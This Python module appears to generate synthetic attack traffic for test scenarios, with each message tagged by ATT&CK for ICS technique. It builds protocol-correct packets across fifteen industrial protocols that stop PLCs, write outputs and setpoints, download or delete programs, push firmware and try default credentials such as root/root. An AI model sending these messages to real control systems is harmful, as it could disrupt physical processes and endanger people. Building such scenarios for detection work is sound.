"""Attackers' messages by protocol, built from the specifications, for :mod:`.scenarios`."""

from __future__ import annotations

import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from .makers.wire import C, S

Attack = tuple  # name, techniques, messages by id, seconds between packets where not 0.01


@dataclass(frozen=True)
class Speaker:
    """A protocol: its port, how a session opens, a poll with its reply, and the attacks."""

    name: str
    port: int
    attacks: Sequence[Attack]
    opening: Sequence[tuple[str, bytes]] = ()
    poll: bytes = b""
    reply: bytes = b""
    datagrams: bool = False


def each(*texts: str) -> list[bytes]:
    return [bytes.fromhex(text) for text in texts]


# Modbus TCP


def mbap(unit: int, pdu: str, number: int = 9) -> bytes:
    body = bytes([unit]) + bytes.fromhex(pdu)
    return struct.pack(">HHH", number & 0xFFFF, 0, len(body)) + body


def modbus(*pdus: str) -> Callable[[int], list[bytes]]:
    return lambda unit: [mbap(unit, pdu, n + 40) for n, pdu in enumerate(pdus)]


MODBUS = Speaker(
    "modbus", 502, poll=mbap(1, "0300000002"), reply=mbap(1, "030400070008"),
    attacks=[
        ("register written", "T0836 T0831 T1692.001", modbus("0600100fa0")),
        ("registers written", "T0836 T0831 T1692.001", modbus("10002000020411223344")),
        ("coil on", "T1692.001 T0831 T0835", modbus("050003ff00")),
        ("coil off", "T1692.001 T0831 T0835", modbus("0500030000")),
        ("coils written", "T1692.001 T0831 T0835", modbus("0f0000000801ff")),
        ("masked write", "T0836 T0831", modbus("160004f2f20025")),
        ("read and write", "T0836 T0831", modbus("1700030002000e00010200ff")),
        ("burst of coils", "T0806", modbus(*["050001ff00", "0500010000"] * 40), 0.005),
        ("burst of registers", "T0806 T0836", modbus(*[f"060001{v:04x}" for v in range(80)]),
         0.005),
        ("identity", "T0888 T0846", modbus("2b0e0100")),
        ("identity, extended", "T0888 T0846", modbus("2b0e0300")),
        ("server id", "T0888 T0846", modbus("11")),
        ("restart of communications", "T0816 T0814", modbus("080001ff00")),
        ("listen only", "T0814 T0816 T1691 T0826", modbus("0800040000")),
        ("counters cleared", "T0872 T0809 T0814 T0836", modbus("08000a0000")),
        ("file written", "T0843 T0836 T0867 T0889", modbus("150d06000400070003 06af04be100d")),
        ("functions tried", "T0846 T0888 T0801 T0861 T0868",
         modbus(*[f"{f:02x}00000001" for f in range(0x41, 0x5a)]), 0.02),
        ("UMAS stop", "T0858 T0814 T0816 T0881", modbus("5a0041ff00")),
        ("UMAS start", "T0858 T0831 T0816", modbus("5a0040ff00")),
        ("UMAS upload begins", "T0845", modbus("5a00330001fb00")),
        ("UMAS download begins", "T0843 T0889 T0821", modbus("5a00300001")),
        ("UMAS identity", "T0888", modbus("5a0002")),
        ("UMAS reservation", "T0871 T0830 T0858 T1691 T0814", modbus("5a00100000000004504f4331")),
        ("units swept", "T0846", lambda _: [mbap(u, "0300000001", u) for u in range(1, 60)], 0.02),
    ],
)  # fmt: skip


# DNP3


def crc(data: bytes) -> bytes:
    value = 0
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = (value >> 1) ^ 0xA6BC if value & 1 else value >> 1
    return struct.pack("<H", value ^ 0xFFFF)


def dnp3_frame(to: int, application: str, number: int = 1) -> bytes:
    user = bytes([0xC0 | number & 63, 0xC0 | number & 15]) + bytes.fromhex(application)
    head = struct.pack("<BBBBHH", 5, 0x64, 5 + len(user), 0xC4, to, 3)
    parts = [head, *(user[i : i + 16] for i in range(0, len(user), 16))]
    return b"".join(part + crc(part) for part in parts)


def dnp3(*texts: str) -> Callable[[int], list[bytes]]:
    return lambda unit: [dnp3_frame(unit + 9, text, n) for n, text in enumerate(texts)]


CROB = "0c01280100 0500 41 01 64000000 64000000 00"
DNP3 = Speaker(
    "dnp3", 20000, poll=dnp3_frame(10, "01 3c0206 3c0306 3c0406"),
    reply=bytes.fromhex("05640a440300 0a00") + crc(bytes.fromhex("05640a4403000a00"))
    + bytes.fromhex("c0c0810000") + crc(bytes.fromhex("c0c0810000")),
    attacks=[
        ("relay select", "T1692.001 T0831", dnp3("03" + CROB)),
        ("relay operate", "T1692.001 T0831", dnp3("03" + CROB, "04" + CROB)),
        ("relay direct", "T1692.001 T0831", dnp3("05" + CROB)),
        ("relay direct, no answer", "T1692.001 T0831", dnp3("06" + CROB)),
        ("setpoint", "T0836 T0831 T1692.001", dnp3("05 2901280100 0100 10270000 00")),
        ("cold restart", "T0816", dnp3("0d")),
        ("warm restart", "T0816", dnp3("0e")),
        ("application stopped", "T0881 T0858 T0814", dnp3("12 5a0106")),
        ("application started", "T0858 T0871 T0863 T0821", dnp3("11 5a0106")),
        ("data initialised", "T0809 T0836 T0816", dnp3("0f")),
        ("unsolicited off", "T0878 T1691 T0838 T0804", dnp3("15 3c0206 3c0306 3c0406")),
        ("unsolicited on", "T0801 T0802 T1692.001 T0836 T0838", dnp3("14 3c0206")),
        ("class assigned", "T0838 T0836 T0878 T1691", dnp3("16 3c0106 1e0006")),
        ("clock", "T0836 T0832 T1692", dnp3("02 320107 01 80c3b5a8 9401")),
        ("file deleted", "T0809 T0872", dnp3("1b 46045b01 1500 0c00000000000000 00000000 01 00"
                                             "2f636f6e666967")),
        ("file opened for writing", "T0843 T0836 T0867 T1693 T0889",
         dnp3("19 46035b01 1e00 1a00 0400 000000000000 ff01 00000000 00100000 0200 0004 0100"
              "61 62 2e 62 69 6e")),
        ("configuration saved", "T0836 T0889 T0843", dnp3("13")),
        ("freeze and clear", "T0832 T0809 T1692.001 T0836", dnp3("09 140006")),
        ("attributes read", "T0888 T0861", dnp3("01 00fe00 00 00")),
        ("burst of relays", "T0806", dnp3(*["05" + CROB] * 60), 0.005),
        ("addresses swept", "T0846", lambda _: [dnp3_frame(a, "01 3c0106") for a in range(40)],
         0.02),
        ("all restarted", "T0816", lambda _: [dnp3_frame(0xFFFF, "0d")]),
    ],
)  # fmt: skip


# S7comm


def tpkt(cotp: bytes) -> bytes:
    return struct.pack(">BBH", 3, 0, 4 + len(cotp)) + cotp


def s7(parameters: str, payload: str = "", kind: int = 1) -> bytes:
    one, two = bytes.fromhex(parameters), bytes.fromhex(payload)
    head = struct.pack(">BBHHHH", 0x32, kind, 0, 0x0300, len(one), len(two))
    return tpkt(b"\x02\xf0\x80" + head + one + two)


def s7all(*messages: bytes) -> Callable[[int], list[bytes]]:
    return lambda unit: list(messages)


S7_READ = s7("0401120a10020001000184000000")
S7_OPEN = [
    (C, bytes.fromhex("0300001611e00000000100c0010ac1020100c2020102")),
    (S, bytes.fromhex("0300001611d00001000200c0010ac1020100c2020102")),
    (C, s7("f0000001000101e0")), (S, tpkt(b"\x02\xf0\x80\x32\x03" + bytes(8))),
]  # fmt: skip
S7 = Speaker(
    "s7comm", 102, opening=S7_OPEN, poll=S7_READ,
    reply=tpkt(bytes.fromhex("02f080320300000300000200050000" + "0401ff040008aa")),
    attacks=[
        ("data block written", "T0836 T0831 T1692.001",
         s7all(s7("0501120a10020002000184000010", "0004001011 22"))),
        ("outputs written", "T1692.001 T0831 T0835",
         s7all(s7("0501120a10020001000082000000", "00040008ff"))),
        ("flag bit written", "T1692.001 T0831 T0836",
         s7all(s7("0501120a10010001000083000008", "0003000101"))),
        ("stop", "T0858 T0881 T0816 T0814", s7all(s7("29000000000009" + b"P_PROGRAM".hex()))),
        ("warm start", "T0858 T0816", s7all(s7("28000000000000fd000009" + b"P_PROGRAM".hex()))),
        ("cold start", "T0858 T0816",
         s7all(s7("28000000000000fd0002432009" + b"P_PROGRAM".hex()))),
        ("download", "T0843 T0889 T0821",
         s7all(s7("1a00010000000000" + "09" + b"_0800001P".hex() + "0d"
                  + b"1000202000084".hex()))),
        ("block inserted", "T0843 T0889 T0821",
         s7all(s7("28000000000000fd000a01" + "00" + b"0800001P".hex() + "05"
                  + b"_INSE".hex()))),
        ("block deleted", "T0809 T0889 T0821",
         s7all(s7("28000000000000fd000a01" + "00" + b"0800001B".hex() + "05"
                  + b"_DELE".hex()))),
        ("upload", "T0845", s7all(s7("1d00000000000000" + "09" + b"_0800001A".hex()))),
        ("module identity", "T0888", s7all(s7("0001120411440100", "ff09000400110001", 7))),
        ("component identity", "T0888", s7all(s7("0001120411440100", "ff090004001c0000", 7))),
        ("mode read", "T0868 T0888", s7all(s7("0001120411440100", "ff09000404240000", 7))),
        ("blocks listed", "T0861 T0888 T0845 T0846", s7all(s7("0001120411430100", "0a000000", 7))),
        ("blocks of a type", "T0861 T0888 T0845", s7all(s7("0001120411430200", "ff0900023038", 7))),
        ("password", "T0859 T0892 T1694 T0806",
         s7all(s7("0001120411450100", "ff0900086476707070707070", 7))),
        ("clock set", "T0836 T0832 T1692",
         s7all(s7("0001120411470200", "ff09000a00192611240600000003", 7))),
        ("burst of writes", "T0806",
         s7all(*[s7("0501120a10020001000082000000", f"00040008{v:02x}") for v in range(80)]),
         0.005),
    ],
)  # fmt: skip


# EtherNet/IP with CIP


def encap(command: int, body: bytes = b"", session: int = 0x55) -> bytes:
    return struct.pack("<HHII", command, len(body), session, 0) + b"scenario" + bytes(4) + body


def cip(text: str) -> bytes:
    request = bytes.fromhex(text)
    items = struct.pack("<IHHHHHH", 0, 10, 2, 0, 0, 0xB2, len(request)) + request
    return encap(0x6F, items)


def cips(*texts: str) -> Callable[[int], list[bytes]]:
    return lambda unit: [cip(text) for text in texts]


def symbol(tag: bytes) -> str:
    return bytes([(len(tag) + 3) // 2, 0x91, len(tag)]).hex() + (tag + b"\0" * (len(tag) % 2)).hex()


TAG = symbol(b"Pump_Speed")
ENIP = Speaker(
    "enip", 44818,
    opening=[(C, encap(0x65, b"\1\0\0\0", 0)), (S, encap(0x65, b"\1\0\0\0"))],
    poll=cip("4c" + TAG + "0100"), reply=cip("cc000000c4002a000000"),
    attacks=[
        ("tag written", "T1692.001 T0836 T0831", cips("4d" + TAG + "c4000100e8030000")),
        ("tag written in parts", "T1692.001 T0836 T0831",
         cips("53" + TAG + "c400010000000000e8030000")),
        ("attribute set", "T0836 T1692.001 T0831", cips("1003200f240130010700")),
        ("reset", "T0816", cips("05022001240100")),
        ("stop", "T0858 T0881 T0816", cips("0702208e2401")),
        ("start", "T0858 T0831", cips("0602208e2401")),
        ("identity", "T0888 T0846", cips("010220012401")),
        ("tags listed", "T0861 T0888", cips("5502206b25000000020001000200")),
        ("devices listed", "T0846 T0888", lambda _: [encap(0x63)]),
        ("services listed", "T0846 T0888", lambda _: [encap(0x04)]),
        ("mode by PCCC", "T0858",
         cips("4b022067240107 4d00 45331122 0f00 0100 8006".replace(" ", ""))),
        ("table written by PCCC", "T0836 T1692.001 T0831 T0835",
         cips("4b022067240107 4d00 45331122 0f000100 aa 04 07 89 00 00 e803".replace(" ", ""))),
        ("burst of writes", "T0806",
         cips(*["4d" + TAG + f"c4000100{v:02x}030000" for v in range(80)]), 0.005),
    ],
)  # fmt: skip


# IEC 60870-5-104


def apdu(kind: int, cause: int, station: int, *objects: str, number: int = 0) -> bytes:
    body = bytes([kind, len(objects), cause, 0]) + struct.pack("<H", station)
    body += b"".join(bytes.fromhex(o) for o in objects)
    return bytes([0x68, 4 + len(body)]) + struct.pack("<HH", number << 1, 0) + body


def iec(kind: int, *objects: str, cause: int = 6) -> Callable[[int], list[bytes]]:
    return lambda unit: [apdu(kind, cause, unit, *objects)]


START, STOP_DT = bytes.fromhex("680407000000"), bytes.fromhex("680413000000")
IEC104 = Speaker(
    "iec104", 2404,
    opening=[(C, START), (S, bytes.fromhex("68040b000000"))],
    poll=bytes.fromhex("680401000200"), reply=apdu(13, 3, 1, "010000 0000a041 00"),
    attacks=[
        ("single command", "T1692.001 T0831", iec(45, "641200 01")),
        ("double command", "T1692.001 T0831", iec(46, "651200 02")),
        ("step", "T1692.001 T0831", iec(47, "661200 01")),
        ("setpoint, float", "T0836 T0831 T1692.001", iec(50, "671200 0000c842 00")),
        ("setpoint, scaled", "T0836 T0831 T1692.001", iec(49, "671200 1027 00")),
        ("single command, timed", "T1692.001 T0831", iec(58, "641200 01 00000a0b0c0b1a")),
        ("reset", "T0816", iec(105, "000000 01")),
        ("clock", "T0836 T0832 T1692", iec(103, "000000 00000a0b0c0b1a")),
        ("parameter", "T0836 T0838", iec(112, "701200 00002041 00")),
        ("parameter activated", "T0836 T0838", iec(113, "701200 01")),
        ("counters frozen", "T1692.001 T0832 T0809", iec(101, "000000 45")),
        ("interrogation by a newcomer", "T0801 T0802 T0861 T0846 T0888", iec(100, "000000 14")),
        ("transfer stopped", "T1691 T0804 T0803 T0878 T0881 T0814", lambda _: [STOP_DT]),
        ("file called", "T0845 T0811 T0893 T0882 T0843 T0888", iec(122, "000000 0100 00 01",
                                                               cause=13)),
        ("objects swept", "T0806 T1692.001 T0831 T0861",
         lambda u: [apdu(45, 6, u, f"{n:02x}0000 01", number=n) for n in range(1, 60)], 0.02),
        ("stations swept", "T0846 T0888",
         lambda _: [apdu(100, 6, n, "000000 14", number=n) for n in range(1, 40)], 0.02),
    ],
)  # fmt: skip


# BACnet/IP


def bacnet(*texts: str, original: int = 0x0A) -> Callable[[int], list[bytes]]:
    def made(unit: int) -> list[bytes]:
        bodies = [bytes.fromhex(t.replace("ID", f"{unit + 16:02x}")) for t in texts]
        return [struct.pack(">BBH", 0x81, original, 4 + len(b)) + b for b in bodies]

    return made


BACNET_READ = bacnet("0104 0005 01 0c 0c00000001 1955")(1)[0]
BACNET = Speaker(
    "bacnet", 47808, datagrams=True, poll=BACNET_READ,
    reply=bacnet("0100 30 01 0c 0c00000001 1955 3e 4442280000 3f")(1)[0],
    attacks=[
        ("value written", "T0836 T1692.001 T0831",
         bacnet("0104 0005 ID 0f 0c00400001 1955 3e 4442c80000 3f 3908")),
        ("relay written", "T1692.001 T0831 T0836",
         bacnet("0104 0005 ID 0f 0c01000001 1955 3e 9101 3f 3908")),
        ("cold start", "T0816", bacnet("0104 0005 ID 14 0900")),
        ("warm start", "T0816", bacnet("0104 0005 ID 14 0901")),
        ("communication off", "T1691 T0814 T0803 T0804 T0878",
         bacnet("0104 0005 ID 11 0905 1901")),
        ("object deleted", "T0809 T0836", bacnet("0104 0005 ID 0b c400800001")),
        ("object created", "T0836 T0889 T0843", bacnet("0104 0005 ID 0a 0e 0902 0f")),
        ("file written", "T0843 T0836 T0889 T0867 T1693",
         bacnet("0104 0005 ID 07 c402800001 0e 3100 6411223344 0f")),
        ("file read", "T0845 T0811 T0893 T0882 T0802",
         bacnet("0104 0005 ID 06 c402800001 0e 3100 2164 0f")),
        ("devices sought", "T0846 T0888", bacnet("0120ffff00ff 1008", original=0x0B)),
        ("objects listed", "T0861 T0888 T0846", bacnet("0104 0005 ID 0c 0c02000001 194c")),
        ("model read", "T0888", bacnet("0104 0005 ID 0c 0c02000001 1946")),
        ("time set", "T0836 T0832 T1692", bacnet("0100 10 06 a47e0b1803 b40a000000")),
        ("alarm acknowledged", "T0878 T0838",
         bacnet("0104 0005 ID 00 0901 1c00000001 2901 3e1905 3f 4c0a00 5e1906 5f")),
        ("table of BBMDs written", "T0830 T0836 T1691 T0832 T0846 T0842",
         lambda _: [bytes.fromhex("8101000e 0a000001bac0ffffffff")]),
        ("foreign device", "T0846 T0842 T0830 T0848 T0886 T0883",
         lambda _: [bytes.fromhex("8105 0006 003c")]),
    ],
)  # fmt: skip


# Omron FINS, MELSEC/SLMP, HART-IP, KNXnet/IP, TFTP over UDP; ADS, MQTT, Telnet, OPC UA over TCP


def fins(text: str) -> Callable[[int], list[bytes]]:
    return lambda unit: [bytes([0x80, 0, 2, 0, unit, 0, 0, 9, 0, unit]) + bytes.fromhex(text)]


FINS = Speaker(
    "fins", 9600, datagrams=True, poll=fins("0101 82 0064 00 0001")(1)[0],
    reply=bytes.fromhex("c00002000900000100010101 0000 0007"),
    attacks=[
        ("memory written", "T0836 T0831 T1692.001", fins("0102 82 0064 00 0001 002a")),
        ("memory filled", "T0836 T0831 T0809", fins("0103 82 0064 00 0064 0000")),
        ("run", "T0858", fins("0401 ffff 04")), ("stop", "T0858 T0881", fins("0402")),
        ("program written", "T0843 T0889 T0821", fins("0307 ffff 00000000 8002 aabb")),
        ("program cleared", "T0809 T0889", fins("0308 ffff 00")),
        ("program read", "T0845", fins("0306 ffff 00000000 00c8")),
        ("identity", "T0888", fins("0501 00")), ("clock", "T0836 T0832 T1692",
                                                fins("0702 261124060000")),
        ("forced", "T0835 T0831 T1692.001 T0806 T0836", fins("2301 0001 0001 30 0001 00")),
        ("file deleted", "T0809 T0872", fins("2205 8000 0001 434f4e4649472020 42494e 0000")),
        ("mode read", "T0868 T0888", fins("0601")), ("searched", "T0846", fins("2768")),
        ("messages cleared", "T0878 T0872", fins("0920 40ff")),
        ("faults read", "T0811 T0888", fins("0920 8000")),
    ],
)  # fmt: skip


def slmp(command: str, body: str = "", to: str = "ff03 00") -> Callable[[int], list[bytes]]:
    data = struct.pack("<H", 16) + bytes.fromhex(command + body)
    head = bytes.fromhex("5000 00 ff" + to) + struct.pack("<H", len(data))
    return lambda unit: [head + data]


SLMP = Speaker(
    "slmp", 5007, poll=slmp("0104 0000", "640000 a8 0100")(1)[0],
    reply=bytes.fromhex("d00000ffff0300 0400 0000 0700"),
    attacks=[
        ("words written", "T0836 T0831 T1692.001", slmp("0114 0000", "640000 a8 0100 2a00")),
        ("bits written", "T1692.001 T0831 T0836 T0835",
         slmp("0114 0100", "100000 9d 0100 10")),
        ("run", "T0858", slmp("0110 0000", "0100 00 00")),
        ("stop", "T0858 T0881", slmp("0210 0000", "0100")),
        ("pause", "T0858 T0881", slmp("0310 0000", "0100")),
        ("latch cleared", "T0809 T0836", slmp("0510 0000", "0100")),
        ("reset", "T0816", slmp("0610 0000", "0100")),
        ("model", "T0888", slmp("0101 0000")),
        ("unlocked", "T0859 T0892 T1694 T0806", slmp("3016 0000", "0400 31323334")),
        ("files listed", "T0888 T0861 T0845 T0846 T0893",
         slmp("1018 4000", "30303030 0400 0100 0800 0000")),
        ("stop of another module", "T0858 T0881", slmp("0210 0000", "0100", "d103 00")),
        ("words of another station", "T0836 T0831 T1692.001",
         slmp("0214 0000", "01 00 640000 a8 2a00", "ff03 04")),
        ("older file deleted", "T0809 T0872", slmp("0512 0000", "0400 31323334")),
        ("parameters set", "T0836", slmp("340e 0000", "0100 0000")),
    ],
)  # fmt: skip


def hart(command: int, body: str = "") -> Callable[[int], list[bytes]]:
    def made(unit: int) -> list[bytes]:
        data = bytes([0x82, 0x26, 0x8B, 1, 2, unit, command, len(body) // 2]) + bytes.fromhex(body)
        check = 0
        for byte in data:
            check ^= byte
        token = data + bytes([check])
        return [struct.pack(">BBBBHH", 1, 0, 3, 0, unit, 8 + len(token)) + token]

    return made


HART = Speaker(
    "hart-ip", 5094, datagrams=True, poll=hart(3)(1)[0],
    opening=[(C, bytes.fromhex("0100000000010 00d0100007530".replace(" ", "")))],
    attacks=[
        ("range", "T0836", hart(35, "2042c8000000000000")), ("damping", "T0836",
                                                            hart(34, "3f800000")),
        ("reset", "T0816", hart(42)), ("current fixed", "T0831 T0836 T1692.001 T0835",
                                       hart(40, "41200000")),
        ("zero trimmed", "T0836 T0832 T0831", hart(43)),
        ("self test", "T0814 T0816 T0831 T0836 T0888", hart(41)),
        ("tag written", "T0836 T0832", hart(18, "0" * 42)), ("identity", "T0888 T0846", hart(0)),
        ("address changed", "T0836 T1691", hart(6, "0501")),
        ("locked", "T0892 T0814 T1691 T0836", hart(71, "01")),
    ],
)  # fmt: skip


def knx(service: str, body: str) -> bytes:
    data = bytes.fromhex(body)
    return b"\x06\x10" + bytes.fromhex(service) + struct.pack(">H", 6 + len(data)) + data


def tunnel(cemi: str) -> Callable[[int], list[bytes]]:
    return lambda unit: [knx("0420", f"0415{unit:02x}00" + cemi)]


KNX = Speaker(
    "knxnet", 3671, datagrams=True, poll=knx("0207", "15000801 0a0a0a0a c350"),
    reply=knx("0208", "1500"),
    attacks=[
        ("group written", "T1692.001 T0831 T0836", tunnel("1100bce0000009010100 81")),
        ("value written", "T1692.001 T0831 T0836", tunnel("1100bce0000009020300800c1a")),
        ("device restarted", "T0816", tunnel("1100b06000001105010380")),
        ("memory written", "T0836 T0843 T0889", tunnel("1100b06000001105054281401100")),
        ("servers sought", "T0846 T0888", lambda _: [knx("0201", "08010a0a0a0ac350")]),
        ("description", "T0888 T0846", lambda _: [knx("0203", "08010a0a0a0ac350")]),
    ],
)  # fmt: skip


def tftp(operation: int, name: bytes) -> Callable[[int], list[bytes]]:
    return lambda unit: [struct.pack(">H", operation) + name + b"\0octet\0"]


TFTP = Speaker(
    "tftp", 69, datagrams=True,
    attacks=[
        ("firmware written", "T1693 T0857 T0867 T0839", tftp(2, b"fw-upgrade-2.7.bin")),
        ("firmware pulled", "T1693 T0867 T0882 T0893", tftp(1, b"u-boot.img")),
        ("configuration pulled", "T0893 T0882 T0811 T0867 T0845", tftp(1, b"startup-config")),
        ("configuration written", "T0867 T0836 T0889", tftp(2, b"startup-config")),
        ("program written", "T0843 T0867 T0889", tftp(2, b"main.prg")),
        ("tool written", "T0867", tftp(2, b"agent.exe")),
    ],
)  # fmt: skip


def ads(command: int, body: str = "") -> Callable[[int], list[bytes]]:
    data = bytes.fromhex(body)
    head = bytes.fromhex("050102030101 5303 0a0101010101 2080")
    tail = struct.pack("<HHIII", command, 4, len(data), 0, 7)
    return lambda unit: [struct.pack("<HI", 0, 32 + len(data)) + head + tail + data]


ADS = Speaker(
    "ads", 48898, poll=ads(2, "05f00000 01000001 04000000")(1)[0],
    attacks=[
        ("variable written", "T0836 T0831 T1692.001", ads(3, "05f00000 0100001a 02000000 2a00")),
        ("output written", "T1692.001 T0831 T0835 T0836", ads(3, "30f00000 00000000 01000000 ff")),
        ("stopped", "T0858 T0881", ads(5, "0600 0000 00000000")),
        ("started", "T0858 T0831", ads(5, "0500 0000 00000000")),
        ("configuration mode", "T0858 T0816", ads(5, "1000 0000 00000000")),
        ("identity", "T0888", ads(1)), ("state", "T0868", ads(4)),
        ("symbols uploaded", "T0861 T0888", ads(2, "0bf00000 00000000 00100000")),
    ],
)  # fmt: skip


def mqtt(kind: int, body: bytes) -> bytes:
    return bytes([kind, len(body)]) + body


def text(value: bytes) -> bytes:
    return struct.pack(">H", len(value)) + value


HELLO = mqtt(0x10, text(b"MQTT") + b"\x04\x02\0\x3c" + text(b"probe-11"))
MQTT = Speaker(
    "mqtt", 1883, opening=[(C, HELLO), (S, b"\x20\x02\0\0")], reply=b"\x90\x03\0\x05\0",
    attacks=[
        ("everything subscribed", "T0801 T0802 T0842 T0861",
         lambda u: [mqtt(0x82, b"\0\x05" + text(b"#") + b"\0")]),
        ("system topics", "T0888 T0801 T0802 T0846 T0861",
         lambda u: [mqtt(0x82, b"\0\x05" + text(b"$SYS/#") + b"\0")]),
        ("command published", "T1692.001 T0831 T0836",
         lambda u: [mqtt(0x30, text(b"plant/line%d/pump/cmd" % u) + b"STOP")]),
        ("setpoint published", "T1692.001 T0831 T0836",
         lambda u: [mqtt(0x30, text(b"plant/line%d/setpoint" % u) + b"99.5")]),
        ("firmware published", "T1693 T0857 T0867 T0843",
         lambda u: [mqtt(0x30, text(b"device/%d/firmware/update" % u) + b"http://x/y.bin")]),
    ],
)  # fmt: skip

TELNET = Speaker(
    "telnet", 23,
    opening=[(S, b"\xff\xfd\x18\xff\xfd\x20login: ")],
    attacks=[
        ("root root", "T1694 T0859 T0812 T0866 T0891", lambda _: [b"root\r\n", b"root\r\n"]),
        ("admin admin", "T1694 T0859 T0812", lambda _: [b"admin\r\n", b"admin\r\n"]),
        ("relay default", "T1694 T0859 T0812", lambda _: [b"ACC\r\n", b"OTTER\r\n"]),
    ],
)  # fmt: skip


def opcua(node: int, body: bytes = bytes(24)) -> Callable[[int], list[bytes]]:
    def made(unit: int) -> list[bytes]:
        data = struct.pack("<IIII", 6, 1, 50 + unit, 3) + b"\x01\0" + struct.pack("<H", node)
        data += b"\0\0" + bytes(29) + body
        return [b"MSGF" + struct.pack("<I", 8 + len(data)) + data]

    return made


OPCUA = Speaker(
    "opcua", 4840,
    opening=[(C, b"HELF" + struct.pack("<I", 55) + bytes.fromhex("00000000ffff0000ffff0000") * 1
              + bytes(8) + struct.pack("<I", 23) + b"opc.tcp://srv:4840/plcs")],
    poll=opcua(826)(1)[0],
    attacks=[
        ("value written", "T0836 T0831 T1692.001", opcua(673)), ("method called",
                                                                "T0871 T0831 T1692", opcua(712)),
        ("browsed", "T0861 T0888 T0846", opcua(527)), ("endpoints", "T0846 T0888", opcua(428)),
        ("servers sought", "T0846 T0888", opcua(422)), ("nodes added", "T0889 T0836 T0832",
                                                       opcua(488)),
        ("nodes deleted", "T0809 T0889 T0832 T0836 T0829", opcua(500)),
        ("history changed", "T0832 T0809 T0872 T0836", opcua(700)),
    ],
)  # fmt: skip

ALL = (
    MODBUS, DNP3, S7, ENIP, IEC104, BACNET, FINS, SLMP, HART, KNX, TFTP, ADS, MQTT, TELNET, OPCUA,
)  # fmt: skip
